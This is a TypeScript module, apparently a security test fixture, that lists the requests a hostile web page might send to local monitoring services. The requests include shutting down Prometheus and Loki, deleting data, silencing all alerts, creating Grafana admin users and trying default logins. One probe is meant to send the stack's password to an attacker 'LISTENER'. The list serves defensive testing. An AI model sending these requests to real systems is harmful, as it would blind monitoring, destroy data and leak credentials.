/** What a page of somebody else tries at a server. */
export interface Tried {
  readonly method: string;
  readonly path: string;
  readonly body?: string;
}

const get = (...paths: string[]): Tried[] => paths.map(path => ({ method: 'GET', path }));
const change = (path: string, body: unknown = {}, methods: readonly string[] = ['POST']): Tried[] =>
  methods.map(method => ({ method, path, body: JSON.stringify(body) }));
const all = ['POST', 'PUT', 'DELETE', 'PATCH'];

const time = (minutes: number) => new Date(Date.now() + minutes * 60_000).toISOString();
const silence = {
  matchers: [{ name: 'alertname', value: '.+', isRegex: true, isEqual: true }],
  startsAt: time(0),
  endsAt: time(60),
  createdBy: 'evil',
  comment: 'evil',
};
const alert = { labels: { alertname: 'Evil' }, annotations: {}, startsAt: time(-1) };
const notification = {
  version: '4',
  status: 'firing',
  groupLabels: {},
  alerts: [{ ...alert, status: 'firing' }],
};
const line = { streams: [{ stream: { evil: '1' }, values: [[`${Date.now()}000000`, 'evil']] }] };
const span = {
  resourceSpans: [
    {
      resource: { attributes: [{ key: 'service.name', value: { stringValue: 'evil' } }] },
      scopeSpans: [
        {
          spans: [
            {
              ...{ traceId: `${'0'.repeat(31)}1`, spanId: `${'0'.repeat(15)}1`, name: 'evil', kind: 1 },
              ...{ startTimeUnixNano: `${Date.now()}000000`, endTimeUnixNano: `${Date.now()}000001` },
            },
          ],
        },
      ],
    },
  ],
};

/** What each server has that changes something or tells something, by the name of its port. */
export const tried: Readonly<Record<string, readonly Tried[]>> = {
  prometheus: [
    ...get(
      '/api/v1/query?query=up',
      '/api/v1/status/config',
      '/metrics',
      '/debug/pprof/heap',
      '/-/reload',
      '/-/quit',
    ),
    ...change('/-/reload', {}, all),
    ...change('/-/quit', {}, all),
    ...change('/api/v1/admin/tsdb/delete_series?match[]=up', {}, all),
    ...change('/api/v1/admin/tsdb/clean_tombstones'),
    ...change('/api/v1/admin/tsdb/snapshot'),
    ...change('/api/v1/write'),
    ...change('/api/v1/otlp/v1/metrics'),
    ...change('/api/v1/query?query=up'),
  ],
  alertmanager: [
    ...get('/api/v2/status', '/api/v2/silences', '/api/v2/alerts', '/metrics', '/-/reload'),
    ...change('/api/v2/silences', silence, all),
    ...change('/api/v2/silence/00000000-0000-0000-0000-000000000000', {}, ['DELETE']),
    ...change('/api/v2/alerts', [alert], all),
    ...change('/-/reload', {}, all),
  ],
  loki: [
    ...get(
      '/ingester/shutdown',
      '/ingester/shutdown?terminate=true',
      '/flush',
      '/ingester/prepare_shutdown',
      '/config',
      '/metrics',
    ),
    ...get('/loki/api/v1/query_range?query={stream="app"}', '/log_level', '/ring'),
    ...change('/ingester/shutdown', {}, all),
    ...change('/ingester/prepare_shutdown', {}, all),
    ...change('/flush', {}, all),
    ...change('/ring', { forget: 'localhost' }),
    ...change('/log_level?log_level=debug'),
    ...change('/loki/api/v1/push', line, all),
    ...change('/otlp/v1/logs'),
    ...change('/loki/api/v1/delete?query={stream="app"}&start=0', {}, ['POST', 'PUT', 'DELETE']),
    ...change('/loki/api/v1/rules/evil', { name: 'evil' }, ['POST', 'DELETE']),
  ],
  grafana: [
    ...get('/api/datasources', '/api/search', '/api/admin/settings', '/api/frontend/settings'),
    ...get('/api/datasources/proxy/uid/loki/ingester/shutdown', '/api/datasources/proxy/uid/loki/flush'),
    ...get('/api/datasources/uid/loki/resources/ingester/shutdown'),
    ...change('/api/datasources/proxy/uid/alertmanager/api/v2/silences', silence),
    ...change('/api/datasources/proxy/uid/alertmanager/-/reload'),
    ...change('/api/alertmanager/alertmanager/api/v2/silences', silence),
    ...change('/api/datasources/proxy/uid/prometheus/-/quit', {}, all),
    ...change('/api/datasources/uid/prometheus/resources/-/quit'),
    ...change('/api/datasources/uid/prometheus/resources/-/reload'),
    ...change('/api/datasources', { name: 'evil', type: 'prometheus', access: 'proxy' }),
    ...change('/api/dashboards/db', { dashboard: { title: 'evil' } }),
    ...change('/api/snapshots', { dashboard: { title: 'evil' } }),
    ...change('/api/annotations', { text: 'evil' }),
    ...change('/api/org/users', { loginOrEmail: 'evil', role: 'Admin' }),
    ...change('/api/admin/users', { name: 'evil', login: 'evil', password: 'evil evil evil' }),
    ...change('/api/admin/provisioning/dashboards/reload'),
    ...change('/login', { user: 'admin', password: 'admin' }),
  ],
  jaeger: [
    ...get('/api/services', '/api/traces?service=evil'),
    ...change('/api/archive/00000000000000000000000000000001'),
    ...change('/api/traces', span),
  ],
  'jaeger-otlp-http': [...get('/v1/traces'), ...change('/v1/traces', span)],
  'jaeger-thrift': [...get('/api/traces'), ...change('/api/traces', span)],
  'jaeger-metrics': get('/metrics'),
  'jaeger-spans': get('/metrics'),
  'jaeger-health': get('/status'),
  'node-exporter': [...get('/metrics', '/debug/pprof/heap'), ...change('/-/quit')],
  'blackbox-exporter': [
    // With the password of the stack, to a server of the attacker.
    ...get('/probe?module=http_2xx_login&target=LISTENER', '/probe?target=LISTENER', '/config', '/logs'),
    ...change('/-/reload', {}, all),
  ],
  desk: [
    ...get('/inbox.json', '/inbox', '/metrics', '/production/alerts/active', '/me', '/login'),
    ...change('/inbox/critical', notification, all),
    ...change('/send/critical', notification),
    ...change('/heartbeat', notification),
    ...change('/login', { name: 'evil', password: 'evil' }),
    ...change('/logout'),
    ...change('/incidents/1/acknowledge', { by: 'evil', minutes: '60' }),
    ...change('/incidents/1/silence', { by: 'evil', reason: 'evil' }),
    ...change('/incidents/1/remedy', { by: 'evil' }),
    ...change('/production/alerts/1/resolve', { by: 'evil', reason: 'evil' }),
    ...change('/production/backup/manual'),
  ],
  exporter: [
    ...get('/metrics', '/scenarios', '/production/system/status', '/health/deep', '/upstream/uaz/outbox'),
    ...change('/scenarios/rate-limit-storm', { seconds: 60 }, ['POST', 'DELETE']),
    ...change('/logging/level', { level: 'trace' }, ['PUT', 'POST']),
    ...change('/production/emergency', notification),
    ...change('/production/backup/manual'),
    ...change('/conversations', { channel: 'whatsapp' }),
    ...change('/auth/codes', { phone: '+5511987654321' }),
    ...change('/qualifier/webhook', { phone: '+5511987654321', text: 'evil' }),
    ...change('/whatsself/messages', { contactId: '1', text: 'evil' }),
    ...change('/upstream/uaz/messages/text', { phone: '+5511987654321', text: 'evil' }),
  ],
};
